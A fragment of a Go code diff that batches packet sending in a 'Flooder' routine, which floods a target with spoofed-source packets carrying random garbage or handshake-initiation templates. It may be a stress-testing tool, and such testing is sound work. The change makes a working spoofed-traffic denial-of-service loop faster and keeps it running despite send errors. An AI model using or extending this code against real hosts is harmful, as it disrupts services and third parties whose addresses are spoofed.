@@ -126,12 +126,12 @@ func (f *Flooder) Run(ctx context.Context, cfg FloodConfig) (FloodResult, error)
 	for i := range junk {
 		junk[i] = byte(rng.Uint32())
 	}
-	pkt := make([]byte, 28+MaxGarbageLen)
 	dst4 := cfg.Dst.Addr().As4()
-	to := &unix.SockaddrInet4{Addr: dst4}
+	const batch = 64
+	out := newSendBatch(batch, 28+MaxGarbageLen, dst4)
+	var lens [batch]int
 	var res FloodResult
 	start := time.Now()
-	const batch = 64
 	for i := 0; ; {
 		if ctx.Err() != nil {
 			break
@@ -143,32 +143,35 @@ func (f *Flooder) Run(ctx context.Context, cfg FloodConfig) (FloodResult, error)
 				continue
 			}
 		}
-		for range batch {
+		for j := range batch {
+			pkt := out.pkts[j]
 			var payload []byte
+			k := i + j
 			switch cfg.Kind {
 			case Garbage:
-				typ := byte(i)
-				n := (i / 256) % (MaxGarbageLen + 1)
+				typ := byte(k)
+				n := (k / 256) % (MaxGarbageLen + 1)
 				payload = pkt[28 : 28+n]
 				if n > 0 {
-					off := (i * 131) % (MaxGarbageLen - n + 1)
+					off := (k * 131) % (MaxGarbageLen - n + 1)
 					copy(payload, junk[off:off+n])
 					payload[0] = typ
 				}
 			case Initiations:
-				t := cfg.Templates[i%len(cfg.Templates)]
+				t := cfg.Templates[k%len(cfg.Templates)]
 				payload = pkt[28 : 28+len(t)]
 				copy(payload, t)
 			}
-			src := SpoofedSource(i)
-			buildHeaders(pkt, src.As4(), dst4, uint16(1024+i%60000), cfg.Dst.Port(), len(payload))
-			if err := unix.Sendto(f.fd, pkt[:28+len(payload)], 0, to); err != nil {
-				res.Errors++
-			} else {
-				res.Sent++
-			}
-			i++
+			src := SpoofedSource(k)
+			buildHeaders(pkt, src.As4(), dst4, uint16(1024+k%60000), cfg.Dst.Port(), len(payload))
+			lens[j] = 28 + len(payload)
 		}
+		// A full socket buffer (ENOBUFS) or a partial send counts the
+		// rest of the batch as errors; the flood goes on.
+		n, _ := out.send(f.fd, lens[:])
+		res.Sent += uint64(n)
+		res.Errors += uint64(batch - n)
+		i += batch
 		if i > res.Sources {
 			res.Sources = min(i, SpoofedSources)
 		}
